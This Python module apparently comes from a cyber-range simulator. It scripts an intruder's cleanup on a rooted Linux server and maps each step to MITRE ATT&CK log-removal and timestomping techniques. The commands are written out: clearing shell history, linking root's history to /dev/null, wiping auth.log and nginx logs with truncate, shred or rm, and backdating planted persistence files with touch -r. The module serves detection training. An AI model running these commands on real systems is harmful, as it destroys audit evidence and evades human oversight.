"""Covering tracks on a rooted Linux server, MITRE ATT&CK T1070.002 Indicator Removal: Clear
Linux or Mac System Logs, T1070.003 Clear Command History, T1070.006 Timestomp.

Imitates an intruder with a root shell (a fresh callback from the privilege escalation's root
shell; :mod:`attack_scripts._shellsession`) who cleans up before leaving:

* ``history``: ``unset HISTFILE`` and ``history -c`` (shell builtins: no process, only the
  session's clear text shows them), then ``ln -sf /dev/null /root/.bash_history``;
* ``wipe`` each of ``logs`` (default ``/var/log/auth.log`` and, on a web server, nginx's
  ``access.log`` and ``error.log``): ``truncate -s 0``, ``shred -zu`` or ``rm -f``;
* ``timestomp``: ``touch -r /etc/hostname`` on the files the ``persistence`` step planted
  (:func:`attack_scripts.persistence.planted`), so that they look as old as the system.

The range's log store already holds what the nodes logged before (their logs are shipped as
they are written), so the step removes nothing from it: it adds the records of the removal.

The traffic: the reverse shell's connection with each line in clear.

On the server (host records): the callback's processes and connection, then ``ln``,
``truncate``/``shred``/``rm`` with the log files on their command lines and ``touch -r`` as
children of the root shell (process_creation, auditd's EXECVE with each argument).
"""
from __future__ import annotations

import re
from typing import Literal

from pydantic import Field, field_validator

from attack_scripts._shellsession import Session, SessionParams, bound, check_paths, play
from attack_scripts.persistence import METHODS, Method, planted
from range.traffic import StepContext, Technique, technique

WIPES = {"truncate": "truncate -s 0 {path}", "shred": "shred -zu {path}", "rm": "rm -f {path}"}
HISTORY = ["unset HISTFILE", "history -c", "ln -sf /dev/null /root/.bash_history"]
AUTH_LOG = "/var/log/auth.log"
NGINX_LOGS = ["/var/log/nginx/access.log", "/var/log/nginx/error.log"]
REFERENCE = "/etc/hostname"  # written when the system was installed
_PATH = re.compile(r"^/[A-Za-z0-9._/-]{1,200}$")


class Params(SessionParams):
    wipe: Literal["truncate", "shred", "rm"] = Field(default="truncate", description="how each log file is wiped")
    logs: list[str] | None = Field(default=None, max_length=20,
                                   description="log files to wipe; default auth.log, and nginx's logs on a web server")
    history: bool = Field(default=True, description="clear the shell's history and link root's to /dev/null")
    timestomp: list[Method] = Field(default=list(METHODS), max_length=3,
                                    description="persistence methods whose files get /etc/hostname's times (touch -r)")

    @field_validator("logs")
    @classmethod
    def _absolute(cls, v: list[str] | None) -> list[str] | None:
        return check_paths(v, _PATH)


def lines(p: Params, logs: list[str], stomped: list[str]) -> list[str]:
    """The lines typed, in order."""
    out = list(HISTORY[:2]) if p.history else []
    out += [WIPES[p.wipe].format(path=path) for path in logs]
    out += HISTORY[2:] if p.history else []
    if stomped:
        out.append(f"touch -r {REFERENCE} " + " ".join(stomped))
    return out


@technique
class LogTampering(Technique):
    name = "log_tampering"
    attack = "T1070.002"
    tactic = "defense-evasion"
    summary = "as root: history cleared, auth.log and nginx's logs wiped, planted files timestomped"
    Params = Params
    max_targets = 1

    def duration(self, p: Params) -> float:
        logs = p.logs if p.logs is not None else [AUTH_LOG, *NGINX_LOGS]
        return bound(lines(p, logs, ["/etc/systemd/system/" + "x" * 40] * len(p.timestomp)), p.think) + 2.0

    def generate(self, ctx: StepContext):
        p: Params = ctx.params
        target = ctx.targets[0]
        logs = p.logs if p.logs is not None else [AUTH_LOG] + (NGINX_LOGS if "http" in target.services else [])
        files = planted(ctx.layout, target.name)
        todo = lines(p, logs, [files[m] for m in p.timestomp])

        def script(s: Session) -> list:
            for line in todo:
                s.type(line, "", took=ctx.rng.uniform(0.2, 1.5) if line.startswith("shred") else None)
            return []

        return play(ctx, p, "root", script, self.duration(p))
